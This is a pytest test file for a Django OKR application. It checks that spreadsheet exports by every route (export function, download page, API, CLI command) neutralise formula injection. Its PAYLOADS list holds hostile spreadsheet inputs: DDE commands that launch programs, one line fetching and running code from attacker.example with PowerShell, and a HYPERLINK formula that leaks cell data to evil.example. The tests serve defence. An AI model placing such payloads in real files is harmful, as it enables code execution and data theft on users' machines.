"""Formula injection: every text a person can type that reaches a spreadsheet export (cycle and
unit names, titles, descriptions, measure units, notes) leaves as text, never as a formula or a
DDE call, by every way out: the export function, the download page, the API and `tenfold
export`."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tenfold.api.tests.conftest import PREFIX, token_for
from tenfold.okrs.models import Cycle, KeyResult, Objective
from tenfold.okrs.services import key_result_create, objective_create
from tenfold.organizations.models import Unit
from tenfold.sheets.exporting import DANGEROUS, export_sheet, neutralise

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/x)'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+1",
    "-1",
    "@A1",
]


def _dangerous(cells: list[Any]) -> list[str]:
    """The text cells a spreadsheet program would run as a formula."""
    return [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS)]


def test_the_check_below_catches_every_payload() -> None:
    """Without neutralising, the check would flag every payload: the tests below can fail."""
    assert _dangerous(PAYLOADS) == PAYLOADS
    assert _dangerous([neutralise(p) for p in PAYLOADS]) == []


@pytest.fixture
def hostile(
    org: Any, team: Any, company: Any, cycle: Any, objective: Any, key_result: Any, alice: Any
) -> dict[str, str]:
    """Every exported text of the organization set to a payload, written past the services'
    validation as if it had arrived some other way (an older version, an import, the API)."""
    texts = {
        "cycle": PAYLOADS[0],
        "team": PAYLOADS[1],
        "company": PAYLOADS[5],
        "objective": PAYLOADS[2],
        "description": PAYLOADS[3],
        "key result": PAYLOADS[4],
        "unit label": "=cmd|' /C calc'!A0",
        "notes": PAYLOADS[6],
    }
    Cycle.objects.filter(pk=cycle.pk).update(name=texts["cycle"])
    Unit.objects.filter(pk=team.pk).update(name=texts["team"])
    Unit.objects.filter(pk=company.pk).update(name=texts["company"])
    Unit.objects.filter(organization=org, kind="department").update(name=PAYLOADS[7])
    Objective.objects.filter(pk=objective.pk).update(
        title=texts["objective"], description=texts["description"]
    )
    KeyResult.objects.filter(pk=key_result.pk).update(
        title=texts["key result"], unit_label=texts["unit label"], description=texts["notes"]
    )
    more = objective_create(organization=org, cycle=cycle, unit=company, title="More", by=alice)
    Objective.objects.filter(pk=more.pk).update(title=PAYLOADS[8], description=PAYLOADS[9])
    kr = key_result_create(
        objective=more, title="Calls", kind="increase", start=0, target=10, by=alice
    )
    KeyResult.objects.filter(pk=kr.pk).update(title=PAYLOADS[10], description=PAYLOADS[11])
    return texts


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    return [c.value for c in cells]


def _check(cells: list[Any], texts: dict[str, str]) -> None:
    assert _dangerous(cells) == []
    for text in texts.values():
        assert "'" + text in cells or "'" + text.strip() in cells, text


def test_every_payload_leaves_as_text_in_csv_and_xlsx(org: Any, hostile: dict[str, str]) -> None:
    out = io.BytesIO()
    export_sheet(org, "csv", out)
    _check(_csv_cells(out.getvalue()), hostile)
    out = io.BytesIO()
    export_sheet(org, "xlsx", out)
    _check(_xlsx_cells(out.getvalue()), hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_download_page_neutralises(
    client: Any, org: Any, hostile: dict[str, str], alice: Any, fmt: str
) -> None:
    client.force_login(alice)
    response = client.get(reverse(f"sheet_export_{fmt}", kwargs={"org": org.slug}))
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    data = response.content
    _check(_csv_cells(data) if fmt == "csv" else _xlsx_cells(data), hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_api_export_neutralises(
    client: Any, org: Any, hostile: dict[str, str], alice: Any, fmt: str
) -> None:
    response = client.get(
        f"{PREFIX}/orgs/{org.slug}/exports/okrs.{fmt}",
        headers={"Authorization": f"Bearer {token_for(alice, org)}"},
    )
    assert response.status_code == 200
    data = response.content
    _check(_csv_cells(data) if fmt == "csv" else _xlsx_cells(data), hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_command_neutralises(
    org: Any, hostile: dict[str, str], tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"okrs.{fmt}"
    call_command(
        "export", "--org", org.slug, "--format", fmt, "--out", str(path), stderr=io.StringIO()
    )
    data = path.read_bytes()
    _check(_csv_cells(data) if fmt == "csv" else _xlsx_cells(data), hostile)
